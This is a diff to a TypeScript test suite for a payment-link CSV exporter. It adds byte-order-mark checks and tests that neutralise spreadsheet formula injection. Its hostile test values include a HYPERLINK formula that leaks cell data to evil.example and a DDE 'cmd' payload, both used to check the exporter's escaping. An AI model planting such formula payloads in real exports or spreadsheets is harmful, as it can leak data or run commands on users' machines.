@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import type { PaymentLink } from '@paylink/client/schemas';
 import Papa from 'papaparse';
-import { linksToCsv } from '../../src/engine/csv-export.ts';
+import { CSV_BOM, linksToCsv } from '../../src/engine/csv-export.ts';
 import { parseImportCsv } from '../../src/engine/csv-import.ts';
 
 const HEADER =
@@ -32,9 +32,14 @@ function link(overrides: Partial<PaymentLink> = {}): PaymentLink {
   };
 }
 
-/** The cells of the export, parsed back by an independent RFC 4180 reader. */
+/** The cells of the export, parsed back by an independent RFC 4180 reader (after the BOM). */
 function cells(csv: string): string[][] {
-  const parsed = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
+  assert.ok(csv.startsWith(CSV_BOM), 'the export starts with the byte order mark');
+  const parsed = Papa.parse<string[]>(csv.slice(CSV_BOM.length), {
+    delimiter: ',',
+    newline: '\r\n',
+    skipEmptyLines: true,
+  });
   assert.deepEqual(parsed.errors, []);
   return parsed.data;
 }
@@ -47,8 +52,19 @@ function cellOf(csv: string, column: string, row = 1): string {
 }
 
 describe('linksToCsv', () => {
-  test('an empty export is the header row alone', () => {
-    assert.equal(linksToCsv([]), `${HEADER}\r\n`);
+  test('an empty export is the byte order mark and the header row alone', () => {
+    assert.equal(linksToCsv([]), `\uFEFF${HEADER}\r\n`);
+  });
+
+  test('the file is UTF-8 with a BOM, so spreadsheets read é, ü, ø and € right', () => {
+    const csv = linksToCsv([link({ title: 'Crème brûlée für Søren', customer: { name: 'Zoë Müller' } })]);
+    const bytes = new TextEncoder().encode(csv);
+    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
+    assert.equal(csv.indexOf(CSV_BOM, 1), -1, 'one BOM, at the start only');
+    assert.equal(cellOf(csv, 'title'), 'Crème brûlée für Søren');
+    assert.equal(cellOf(csv, 'customer name'), 'Zoë Müller');
+    // Decoded as a spreadsheet does once it has seen the BOM.
+    assert.ok(new TextDecoder('utf-8').decode(bytes).startsWith('id,status,'));
   });
 
   test('a full row, with CRLF line ends', () => {
@@ -74,7 +90,7 @@ describe('linksToCsv', () => {
     ]);
     assert.equal(
       csv,
-      `${HEADER}\r\n` +
+      `\uFEFF${HEADER}\r\n` +
         'pl_1,paid,true,12.50,EUR,Invoice 42,Thanks,REF-42,INV-1,Jan,jan@example.be,0470123456,K1,nl,' +
         'bancontact|ideal,manual,2026-11-01T10:00:00.000Z,2026-12-31T23:59:59.999Z,2026-11-02T08:00:00.000Z,' +
         'bancontact,psp_9,2.50,http://localhost:5173/pay.html?token=tok_abcdefghijklmnopqrstuvwxyz\r\n',
@@ -124,6 +140,90 @@ describe('linksToCsv', () => {
       assert.ok(!csv.includes(`,"${first}HYPERLINK`));
     });
   }
+
+  // Hostile cells: each starts with a formula character and is not only a number, so it gets the `'`.
+  for (const value of [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    '-2+3',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '+32470123456+cmd',
+    '+32 470 12 34 56=1',
+    '-12.50+A1',
+    '- 12.50',
+    '+1,2',
+    '+12e3',
+    '+',
+    '-',
+    '+32  470 123456',
+  ]) {
+    test(`the hostile cell ${JSON.stringify(value)} is neutralised in every text column`, () => {
+      const csv = linksToCsv([
+        link({
+          title: value,
+          message: value,
+          reference: value,
+          invoice: value,
+          customer: { name: value, email: value, mobile: value, customerNumber: value },
+        }),
+      ]);
+      for (const column of [
+        'title',
+        'message',
+        'reference',
+        'invoice',
+        'customer name',
+        'customer email',
+        'customer mobile',
+        'customer number',
+      ]) {
+        assert.equal(cellOf(csv, column), `'${value}`, column);
+      }
+      // In the raw text too: no cell (at a line start or after a comma, quoted or not) starts a formula.
+      assert.doesNotMatch(csv.slice(CSV_BOM.length), /(?:^|\r\n|,)"?[=+\-@\t\r]/, 'no cell starts a formula');
+    });
+  }
+
+  // Only a number: a phone number or a plain amount stays as written (no `'` for the merchant to see).
+  for (const value of [
+    '+32470123456',
+    '+32 470 12 34 56',
+    '+1 555 0100 999',
+    '+447911123456',
+    '-12.50',
+    '+12.50',
+    '-3',
+    '+100',
+  ]) {
+    test(`the plain number ${JSON.stringify(value)} stays as written`, () => {
+      const csv = linksToCsv([
+        link({
+          reference: value,
+          invoice: value,
+          customer: { name: 'Jan', mobile: value, customerNumber: value },
+        }),
+      ]);
+      for (const column of ['reference', 'invoice', 'customer mobile', 'customer number']) {
+        assert.equal(cellOf(csv, column), value, column);
+      }
+      assert.ok(!csv.includes(`'${value}`), csv);
+    });
+  }
+
+  test('an IBAN and a national phone number stay as written', () => {
+    const csv = linksToCsv([
+      link({
+        reference: 'BE68 5390 0754 7034',
+        invoice: 'NL91ABNA0417164300',
+        customer: { name: 'Jan', mobile: '0470 12 34 56' },
+      }),
+    ]);
+    assert.equal(cellOf(csv, 'reference'), 'BE68 5390 0754 7034');
+    assert.equal(cellOf(csv, 'invoice'), 'NL91ABNA0417164300');
+    assert.equal(cellOf(csv, 'customer mobile'), '0470 12 34 56');
+  });
 
   test('the escape is exact for a simple formula', () => {
     const csv = linksToCsv([link({ title: '=1+1' })]);
